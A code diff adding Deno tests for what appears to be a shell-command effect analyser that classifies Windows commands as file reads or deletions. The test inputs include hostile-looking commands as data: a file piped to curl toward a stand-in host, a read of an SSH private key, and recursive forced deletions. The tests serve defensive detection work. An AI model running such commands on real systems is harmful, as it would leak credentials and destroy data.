@@ -16,11 +16,23 @@ for (
     ["Get-Content C:\\a\\b", "read C:/a/b"],
     ["Remove-Item -Recurse -Force C:\\a\\b", "delete C:/a/b"],
     ["gc C:\\a\\b | curl -d @- https://h.example", "read C:/a/b"],
+    ["powershell -c 'Remove-Item C:\\a'", "delete C:/a"],
+    ["pwsh -c 'gc ~\\.ssh\\id_rsa'", "read /h/.ssh/id_rsa"],
+    ["cmd /c 'rd /s /q C:\\a'", "delete C:/a"],
+    ["[IO.File]::ReadAllText('C:\\a')", "read C:/a"],
+    ["$d = 'C:\\a'; Remove-Item $d -Recurse", "delete C:/a"],
+    ["Get-ChildItem C:\\a -Recurse | Remove-Item", "delete C:/a/**/*"],
   ] as const
 ) {
   Deno.test(`as on Windows: ${source}`, () =>
     assert.ok(effects(source).includes(want), effects(source).join("; ")));
 }
+
+Deno.test("a path of Windows that a program of the shell's is given is absolute", () =>
+  assert.deepEqual(effects("cat 'C:\\a\\b'"), ["read C:/a/b"]));
+
+Deno.test("a switch of cmd's is no file", () =>
+  assert.deepEqual(effects("cmd /c 'rmdir /s /q build'"), ["delete /w/build", "delete /w/build"]));
 
 Deno.test("a command of the shell's own, or a quoted path, is read once", () => {
   for (const source of ["gcc C:\\x.c", "type ls", "echo a\\b", "type 'C:\\a\\b'", "grep -r 'C:\\\\x' ."]) {
